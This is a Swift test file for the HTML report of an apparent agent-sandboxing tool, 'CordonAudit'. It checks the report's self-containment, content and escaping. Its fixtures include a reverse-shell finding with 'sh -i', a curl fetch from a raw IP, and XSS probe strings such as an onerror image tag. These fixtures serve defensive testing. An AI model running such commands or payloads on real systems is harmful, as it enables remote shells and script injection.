import CordonGate
import CordonPolicy
import Testing

@testable import CordonAudit

@Suite("the HTML report")
struct ReportTests {
    func sampleHTML() throws -> String {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let rec = try recordSampleRun(dir)
        return RunReport.html(try TraceReader.read(rec.tracePath))
    }

    @Test("the report is self-contained: no scripts, no external assets")
    func selfContained() throws {
        let h = try sampleHTML()
        #expect(h.hasPrefix("<!DOCTYPE html>"))
        #expect(!h.contains("<script"))
        #expect(
            !h.contains("src=\"http") && !h.contains("href=\"http") && !h.contains("url(http") && !h.contains("@import")
        )
        #expect(h.contains("<svg class=\"timeline\""))
    }

    @Test("the summary, the blocked item with its evidence, and the process tree are there")
    func content() throws {
        let h = try sampleHTML()
        for needle in [
            "ci-agent", "policies/agent.yaml", String(repeating: "ab", count: 32),
            "<span class=\"chip\">landlock</span>",
            "exit code none, signal 9, cordon exited 124", "reverse-shell", "interactive shell from a pipe",
            "<code>sh -i</code>", "pid 101", "curl http://203.0.113.7/x",
            "fell back</span> user namespaces refused by the kernel",
        ] {
            #expect(h.contains(needle), "missing \(needle)")
        }
    }

    @Test("commands cannot inject markup into the report")
    func escaping() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let rec = try RunRecorder(directory: LogDirectory(path: dir))
        try rec.start(
            RunStart(
                policy: PolicySource(path: "p", sha256: ""), agent: "<b>x</b>",
                command: ["echo", "<script>alert(1)</script>"], cwd: "/w", isolation: []))
        let a = Action(id: "a-1", payload: .shell("echo '<img src=x onerror=alert(1)>'"))
        try rec.record(
            Decision(actionId: "a-1", decision: .block, score: 90, policyRule: "r\"<", reasons: ["<i>"], findings: []),
            for: a)
        let h = RunReport.html(try TraceReader.read(rec.tracePath))
        #expect(
            !h.contains("<script>alert") && !h.contains("<img src=x") && !h.contains("<b>x</b>") && !h.contains("<i>"))
        #expect(h.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
    }

    @Test("timeline ticks fall on round steps")
    func ticks() {
        #expect(ReportTimeline.niceStep(1100) == 2000)
        #expect(ReportTimeline.niceStep(4.2) == 5)
        #expect(ReportTimeline.niceStep(90_000) == 100_000)
        #expect(ReportTimeline.duration(1500) == "1.5 s")
        #expect(ReportTimeline.duration(125_000) == "2 min 5 s")
    }
}
